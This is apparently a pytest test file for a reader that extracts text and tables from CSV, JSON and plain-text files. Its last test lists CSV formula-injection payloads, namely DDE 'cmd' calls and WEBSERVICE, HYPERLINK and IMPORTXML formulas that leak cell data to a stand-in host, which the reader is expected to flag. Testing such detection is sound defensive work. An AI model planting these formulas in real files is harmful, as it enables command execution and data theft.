"""Plain text: CSV, JSON and others, whose text is all that they hold."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.documents.makers import look, traced, words

JANE = "Jane Bloggs"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.csv", f"ward,who\nNorth,{JANE}\n".encode()),
        ("a.csv", f"﻿ward,who\r\nNorth,{JANE}\r\n".encode()),
        ("a.csv", f"ward,who\n\nNorth £,{JANE}\n".encode("cp1252")),
        ("a.csv", f"ward;who\nNorth;{JANE}\n".encode()),
        ("a.csv", f'ward,who\nNorth,"{JANE}\n'.encode()),
        ("a.csv", f"ward,who\nNorth,{JANE},more,and more\n\n\n".encode()),
        ("a.tsv", f"ward\twho\nNorth\t{JANE}\n".encode()),
        ("a.json", b'[{"ward": "North", "who": "\\u004aane Bloggs"}, {"ward": "South", "days": 3}]'),
        ("a.json", f'{{"a": [1, 2, {{"b": "{JANE}"}}]}}'.encode()),
        ("a.geojson", f'{{"features": [{{"properties": {{"who": "{JANE}"}}, "geometry": null}}]}}'.encode()),
        ("a.json", f'{{"{JANE}": 1}}'.encode()),
        ("a.json", f'{{"a": 1}}\n{{"a": "{JANE}"}}\n'.encode()),
        ("a.txt", f"one\n\ntwo {JANE}".encode()),
        ("a.txt", f"£ {JANE}".encode("cp1252")),
    ],
)
def test_all_text_is_read(name: str, content: bytes, tmp_path: Path) -> None:
    found = look(tmp_path, name, content)
    assert JANE in words(found)
    assert (traced(found), found.problem) == (set(), "")


def test_a_table_is_what_the_strict_reader_has(tmp_path: Path) -> None:
    [grid] = look(tmp_path, "a.csv", b'ward,note\nNorth,"two\nlines"\nSouth,"a ""b"""\n').grids
    assert (grid.sheet, grid.header, grid.first) == ("", ("ward", "note"), 2)
    assert grid.columns == (("North", "South"), ("two\nlines", 'a "b"'))


def test_records_are_a_table_whatever_fields_each_has(tmp_path: Path) -> None:
    [grid] = look(tmp_path, "a.json", b'[{"a": "x"}, {"b": {"c": 1}, "a": null}]').grids
    assert (grid.header, grid.columns) == (("a", "b"), (("x", ""), ("", '{"c": 1}')))


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("a.json", b'{"a": ', "not well-formed JSON"),
        ("a.json", b"[" * 200_000, "too deep"),
        ("a.csv", b"", "empty"),
        ("a.txt", b" \n ", "empty"),
    ],
)
def test_what_cannot_be_read_says_so(name: str, content: bytes, says: str, tmp_path: Path) -> None:
    assert says in look(tmp_path, name, content).problem


def test_one_very_wide_row_does_not_fill_memory(tmp_path: Path) -> None:
    content = b"a,b\n" + b"1,2\n" * 20_000 + b"x," * 50_000 + JANE.encode() + b"\n"
    found = look(tmp_path, "a.csv", content)
    assert sum(len(grid.columns) * len(grid.columns[0]) for grid in found.grids) < 400_000
    assert JANE in words(found)


def test_places_are_lines(tmp_path: Path) -> None:
    found = look(tmp_path, "a.txt", b"one\n\n" + b"x\n" * 5 + b"\nlast")
    assert [(p.where, p.text.strip()[:4]) for p in found.passages] == [
        ("line 1", "one"),
        ("line 3", "x\nx\n"),
        ("line 9", "last"),
    ]


def test_a_field_that_is_there_twice_is_told(tmp_path: Path) -> None:
    found = look(tmp_path, "a.json", f'{{"a": "{JANE}", "a": "North"}}'.encode())
    assert traced(found) == {"left-over"}
    assert JANE in words(found)


@pytest.mark.parametrize(
    ("harmful", "cell"),
    [
        (True, "=cmd|'/c calc'!A1"),
        (True, "+cmd|' /c calc'!A1"),
        (True, '"=WEBSERVICE(""https://b.example/?""&A1)"'),
        (True, '"=HYPERLINK(""https://b.example/?""&A1)"'),
        (True, '=IMPORTXML("https://b.example/","//a")'),
        (False, "=SUM(A1:A9)"),
        (False, "-12"),
        (False, '"=HYPERLINK(""https://anytown.example/"")"'),
        (False, "a | 'b' and HYPERLINK(c & d)"),
        (False, "Cost - see WEBSERVICE (old)"),
    ],
)
def test_formulas_that_do_harm_are_told(harmful: bool, cell: str, tmp_path: Path) -> None:
    found = look(tmp_path, "a.csv", f"ward,note\nNorth,{cell}\n".encode())
    assert [(trace.kind, trace.where) for trace in found.traces] == ([("macros", "line 2")] if harmful else [])
